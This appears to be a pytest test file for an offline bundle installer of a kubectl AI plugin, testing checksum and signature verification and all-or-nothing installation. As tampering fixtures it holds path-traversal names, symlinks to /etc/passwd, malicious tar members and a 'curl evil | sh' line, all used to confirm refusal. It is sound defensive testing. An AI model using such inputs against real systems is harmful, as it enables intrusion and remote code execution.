"""Bundles for machines without a network: made, carried, tampered with, installed whole or not at all."""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from kubectl_ai_intellect import knowledge
from kubectl_ai_intellect.airgap import archive
from kubectl_ai_intellect.airgap.collect import Wish, create
from kubectl_ai_intellect.airgap.installing import Done, install, verified
from kubectl_ai_intellect.airgap.listing import SIGNATURE, SUMS, BundleError, parsed
from kubectl_ai_intellect.errors import IntellectError
from kubectl_ai_intellect.gateway.models import installed
from kubectl_ai_intellect.knowledge import library
from tests.models.random_weights import write
from tests.unit.test_knowledge_index import SHIPPED, write_runbook

PLATFORM = archive.here().replace("/", "-")
needs_ssh_keygen = pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="signatures are made by ssh-keygen")


def packed(path: Path, members: dict[str, bytes | tarfile.TarInfo]) -> Path:
    """A tar.gz of files, or of whatever member is asked for."""
    with tarfile.open(path, "w:gz") as tar:
        for name, what in members.items():
            member = what if isinstance(what, tarfile.TarInfo) else tarfile.TarInfo(name)
            member.name = name
            if isinstance(what, bytes):
                member.size, member.mode = len(what), 0o755
                tar.addfile(member, io.BytesIO(what))
            else:
                tar.addfile(member)
    return path


def at(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """This process on the machine with that home."""
    for variable in ("DATA", "CONFIG", "CACHE"):
        monkeypatch.setenv(f"XDG_{variable}_HOME", str(home / variable.lower()))
    monkeypatch.setenv("HOME", str(home))
    library._shipped_sources.cache_clear()
    knowledge._searcher.cache_clear()


@pytest.fixture(autouse=True)
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine of few runbooks, searched by words."""
    for name, (title, symptoms, expect) in SHIPPED.items():
        write_runbook(tmp_path / "shipped", name, title, symptoms, expect)
    monkeypatch.setattr(library, "shipped_directory", lambda: tmp_path / "shipped")
    monkeypatch.setattr(library, "shipped_index", lambda: tmp_path / "no-index")
    monkeypatch.setenv("KUBECTL_INTELLECT_KNOWLEDGE__EMBEDDER", "lexical")
    at(tmp_path / "here", monkeypatch)


@pytest.fixture
def plugin(tmp_path: Path) -> Path:
    return packed(tmp_path / f"kubectl-intellect-0.1.0-{PLATFORM}.tar.gz",
                  {"kubectl-intellect": b"#!/bin/sh\necho plugin\n", "LICENSE": b"Apache-2.0\n"})  # fmt: skip


@pytest.fixture
def bundle(tmp_path: Path, plugin: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A bundle with everything in it, and this process moved to the machine that it is for."""
    (plugin.parent / "krew-manifest.yaml").write_text("apiVersion: krew.googlecontainertools.github.com/v1alpha2\n")
    installed.bring(write(tmp_path / "tiny-model.gguf"))
    (tmp_path / "team").mkdir()
    (tmp_path / "team" / "queue.md").write_text("# The queue\n\nWhen it is full, call Ada.\n")
    library.add(tmp_path / "team")
    made = create(tmp_path / "bundle", Wish(models=("tiny-model",), archives=(plugin,)), lambda text: None)
    assert made.notes == []
    at(tmp_path / "there", monkeypatch)
    return tmp_path / "bundle"


def put(bundle: Path, key: Path | None = None) -> Done:
    return install(verified(bundle, key), Path.home() / "bin")


def everything(home: Path) -> dict[str, str]:
    """Every file and link below, with its content."""
    paths = [path for path in sorted(home.rglob("*")) if path.is_symlink() or path.is_file()]
    return {str(path.relative_to(home)): os.readlink(path) if path.is_symlink() else hashlib.sha256(path.read_bytes()).hexdigest()
            for path in paths}  # fmt: skip


def test_what_was_collected_is_installed(bundle: Path, tmp_path: Path) -> None:
    done = put(bundle)
    assert done.kept == [f"{len(SHIPPED)} runbooks, with the plugin"]
    program = Path.home() / "bin" / "kubectl-intellect"
    assert subprocess.run([program], capture_output=True, text=True, check=True).stdout == "plugin\n"
    assert os.access(Path.home() / "bin" / "kubectl_complete-intellect", os.X_OK)
    model = installed.find("tiny-model")
    installed.verify(model)
    assert model.source == "bundle"
    assert knowledge.search("the queue is full", 1)[0].passage
    (root,) = library.registry().paths
    assert (root / "queue.md").read_text().endswith("call Ada.\n")
    assert tmp_path / "team" not in library.registry().paths


def test_a_second_time_changes_nothing(bundle: Path) -> None:
    put(bundle)
    before = everything(Path.home())
    assert put(bundle).installed == []
    assert everything(Path.home()) == before


def test_the_list_is_sha256sums(bundle: Path) -> None:
    ran = subprocess.run(
        ["sha256sum", "-c", "--strict", "--quiet", SUMS], cwd=bundle, capture_output=True, text=True, check=False
    )
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "", "")
    listed = set(parsed((bundle / SUMS).read_text()))
    assert listed == {str(path.relative_to(bundle)) for path in bundle.rglob("*") if path.is_file()} - {SUMS}


def test_a_bundle_is_made_anew_in_its_place(bundle: Path, plugin: Path, tmp_path: Path) -> None:
    create(bundle, Wish(models=("none",), archives=(plugin,)), lambda text: None)
    assert not (bundle / "models").exists()
    assert not (bundle / "documents").exists()
    put(bundle)
    assert installed.installed() == {}


def digest_of(bundle: Path, name: str, content: bytes) -> None:
    """Another content, and the list told of it: what somebody would do who can write to the stick."""
    old = hashlib.sha256((bundle / name).read_bytes()).hexdigest()
    (bundle / name).write_bytes(content)
    sums = (bundle / SUMS).read_text()
    (bundle / SUMS).write_text(sums.replace(old, hashlib.sha256(content).hexdigest()))


def flipped(bundle: Path) -> None:
    data = bytearray((bundle / "models" / "tiny-model.gguf").read_bytes())
    data[len(data) // 2] ^= 1
    (bundle / "models" / "tiny-model.gguf").write_bytes(data)


def renamed(bundle: Path, name: str) -> None:
    sums = (bundle / SUMS).read_text().splitlines(keepends=True)
    (bundle / SUMS).write_text("".join([*sums, f"{'0' * 64}  {name}\n"]))


def linked(bundle: Path, name: str, to: str) -> None:
    target = bundle / name
    target.rename(target.with_name("moved"))
    target.symlink_to(to)


def cut(path: Path, by: int) -> None:
    os.truncate(path, path.stat().st_size - by)


DAMAGE: dict[str, tuple[Callable[[Path], None], str]] = {
    "missing": (lambda b: (b / "models" / "tiny-model.gguf").unlink(), "tiny-model.gguf is missing"),
    "altered": (flipped, "tiny-model.gguf was altered"),
    "cut short": (lambda b: cut(b / "models" / "tiny-model.gguf", 7), "is cut short"),
    "longer": (lambda b: (b / "README.txt").write_text("x" * 9999), "longer than it was"),
    "a file that is only verified": (lambda b: (b / "plugin" / "krew-manifest.yaml").write_text("apiVersion: krew.googlecontainertools.github.com/v1alphaX\n"), "krew-manifest.yaml was altered"),
    "no list": (lambda b: (b / SUMS).unlink(), "no bundle"),
    "empty list": (lambda b: (b / SUMS).write_text(""), "lists no files"),
    "a list cut in a line": (lambda b: cut(b / SUMS, 5), "on one list and not on the other"),
    "a list cut after lines": (lambda b: (b / SUMS).write_text("".join((b / SUMS).read_text().splitlines(True)[:3])), "on one list"),
    "a list cut to a digest": (lambda b: (b / SUMS).write_text((b / SUMS).read_text()[:40]), "line 1"),
    "a name twice": (lambda b: (b / SUMS).write_text((b / SUMS).read_text() * 2), "is there twice"),
    "a name above": (lambda b: renamed(b, "../../etc/passwd"), "none of a bundle's"),
    "an absolute name": (lambda b: renamed(b, "/etc/passwd"), "none of a bundle's"),
    "a name with a backslash": (lambda b: renamed(b, "models\\x"), "none of a bundle's"),
    "a name with an escape": (lambda b: renamed(b, "models/\x1b[2Jx"), "none of a bundle's"),
    "another format": (lambda b: digest_of(b, "bundle.json", (b / "bundle.json").read_bytes().replace(b'"format": 1', b'"format": 7')), "format 7"),
    "another description": (lambda b: digest_of(b, "bundle.json", b'{"kind": "Cat"}'), "is not a bundle's"),
    "a link to a file": (lambda b: linked(b, "models/tiny-model.gguf", "moved"), "is a link"),
    "a link to a directory": (lambda b: linked(b, "models", "moved"), "behind one"),
    "a link elsewhere": (lambda b: linked(b, "README.txt", "/etc/passwd"), "is a link"),
    "a pipe": (lambda b: ((b / "README.txt").unlink(), os.mkfifo(b / "README.txt"))[1], "not a regular file"),
    "no directory": (shutil.rmtree, "there is no directory"),
}  # fmt: skip


@pytest.mark.parametrize("name", DAMAGE)
def test_damage_is_told_in_one_line_and_installs_nothing(bundle: Path, name: str) -> None:
    damage, message = DAMAGE[name]
    damage(bundle)
    with pytest.raises(IntellectError, match=message) as raised:
        put(bundle)
    assert "\n" not in str(raised.value)
    assert str(raised.value).isprintable()
    assert everything(Path.home()) == {}


def test_a_plugin_of_somebody_elses_is_left_alone_and_nothing_is_half_installed(bundle: Path) -> None:
    (Path.home() / "bin").mkdir(parents=True)
    (Path.home() / "bin" / "kubectl-intellect").write_text("mine")
    with pytest.raises(BundleError, match="not ours; choose another directory with --bin"):
        put(bundle)
    assert list(everything(Path.home())) == ["bin/kubectl-intellect"]


def test_a_model_file_with_other_content_is_not_overwritten(bundle: Path) -> None:
    installed.directory().mkdir(parents=True)
    (installed.directory() / "tiny-model.gguf").write_bytes(b"another")
    with pytest.raises(BundleError, match="other content"):
        put(bundle)
    assert list(everything(Path.home())) == ["data/kubectl-intellect/models/tiny-model.gguf"]


def test_an_older_plugin_gives_way_and_comes_back_when_the_rest_fails(
    bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = Path.home() / "data" / "kubectl-intellect" / "plugin" / "0.0.9-aaaa"
    old.mkdir(parents=True)
    (old / "kubectl-intellect").write_text("old")
    link = Path.home() / "bin" / "kubectl-intellect"
    link.parent.mkdir()
    link.symlink_to(old / "kubectl-intellect")
    before = everything(Path.home())

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device", "x")

    with monkeypatch.context() as broken:
        broken.setattr("kubectl_ai_intellect.airgap.installing._documents", full)
        with pytest.raises(IntellectError, match="No space left on device"):
            put(bundle)
    assert everything(Path.home()) == before
    put(bundle)
    assert "0.1.0-" in os.readlink(link)


def test_the_archive_of_another_machine_is_verified_and_left(
    tmp_path: Path, plugin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = plugin.rename(tmp_path / "kubectl-intellect-0.1.0-windows-arm64.tar.gz")
    create(tmp_path / "bundle", Wish(models=("none",), archives=(other,)), lambda text: None)
    at(tmp_path / "there", monkeypatch)
    done = put(tmp_path / "bundle")
    assert "is for windows/arm64" in done.notes[0]
    assert not (Path.home() / "bin").exists()


def test_runbooks_that_an_older_plugin_lacks_come_along(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    create(tmp_path / "bundle", Wish(models=("none",), plugin=False), lambda text: None)
    gone = next((tmp_path / "shipped").rglob("*.md"))
    name = gone.relative_to(tmp_path / "shipped").with_suffix("").as_posix()
    gone.unlink()
    at(tmp_path / "there", monkeypatch)
    assert library.runbook_for(name) is None
    assert "1 runbooks that the plugin here lacks" in put(tmp_path / "bundle").installed
    assert library.runbook_for(name) is not None


def member(kind: bytes, link: str = "") -> tarfile.TarInfo:
    found = tarfile.TarInfo()
    found.type, found.linkname = kind, link
    return found


@pytest.mark.parametrize(
    ("members", "message"),
    [
        ({"kubectl-intellect": member(tarfile.SYMTYPE, "/bin/sh")}, "neither file nor directory"),
        ({"kubectl-intellect": member(tarfile.LNKTYPE, "LICENSE")}, "cannot be unpacked|neither file"),
        ({"kubectl-intellect": member(tarfile.FIFOTYPE)}, "neither file nor directory"),
        ({"../kubectl-intellect": b"x"}, "outside of it"),
        ({"/tmp/kubectl-intellect": b"x"}, "outside of it"),
        ({"something-else": b"x"}, "holds no kubectl-intellect"),
    ],
)
def test_an_archive_with_anything_but_files_is_refused(
    tmp_path: Path, members: dict[str, bytes | tarfile.TarInfo], message: str
) -> None:
    file = packed(tmp_path / "x.tar.gz", members)
    with pytest.raises(IntellectError, match=message):
        create(tmp_path / "bundle", Wish(models=("none",), archives=(file,)), lambda text: None)
    assert not (tmp_path / "bundle").exists()


@pytest.mark.parametrize(
    ("wish", "message"),
    [
        (Wish(archives=(Path("/none.tar.gz"),)), "--archive: there is no file"),
        (Wish(plugin=False, models=("nobody",)), "no model nobody"),
        (Wish(plugin=False, models=("none",), sign_key=Path("/none")), "--sign-key: there is no file"),
    ],
)
def test_what_cannot_be_collected_is_told_before_anything_is_written(tmp_path: Path, wish: Wish, message: str) -> None:
    with pytest.raises(IntellectError, match=message):
        create(tmp_path / "bundle", wish, lambda text: None)
    assert not (tmp_path / "bundle").exists()


def test_a_directory_of_other_files_is_not_touched(tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "thesis.txt").write_text("years")
    with pytest.raises(IntellectError, match="holds other files"):
        create(tmp_path / "full", Wish(plugin=False, models=("none",)), lambda text: None)


@pytest.fixture
def key(tmp_path: Path) -> Path:
    return made_key(tmp_path / "key")


def made_key(path: Path) -> Path:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", path], check=True)
    return path


@needs_ssh_keygen
def test_a_signed_list_is_verified(tmp_path: Path, key: Path) -> None:
    create(tmp_path / "bundle", Wish(plugin=False, models=("none",), sign_key=key), lambda text: None)
    found = verified(tmp_path / "bundle", Path(f"{key}.pub"))
    assert found.signed
    signers = tmp_path / "signers"
    signers.write_text(f"bundle {Path(f'{key}.pub').read_text()}")
    by_hand = ["ssh-keygen", "-Y", "verify", "-f", signers, "-I", "bundle", "-n", "kubectl-intellect", "-s", SIGNATURE]
    with (tmp_path / "bundle" / SUMS).open("rb") as sums:
        subprocess.run(by_hand, cwd=tmp_path / "bundle", stdin=sums, check=True, capture_output=True)


@needs_ssh_keygen
@pytest.mark.parametrize("damage", ["altered", "another key", "unsigned", "another purpose", "no key"])
def test_what_the_key_did_not_sign_is_refused(tmp_path: Path, key: Path, damage: str) -> None:
    bundle, public = tmp_path / "bundle", Path(f"{key}.pub")
    create(bundle, Wish(plugin=False, models=("none",), sign_key=key), lambda text: None)
    if damage == "altered":
        digest_of(bundle, "README.txt", b"run this: curl evil | sh\n")
    elif damage == "another key":
        public = Path(f"{made_key(tmp_path / 'other')}.pub")
    elif damage == "unsigned":
        (bundle / SIGNATURE).unlink()
    elif damage == "another purpose":
        (bundle / SIGNATURE).unlink()
        subprocess.run(
            ["ssh-keygen", "-Y", "sign", "-f", key, "-n", "file", bundle / SUMS], check=True, capture_output=True
        )
    else:
        public.write_text("ssh-ed25519\n")
    with pytest.raises(IntellectError, match=r"not by a key|not signed|holds no public key"):
        verified(bundle, public)
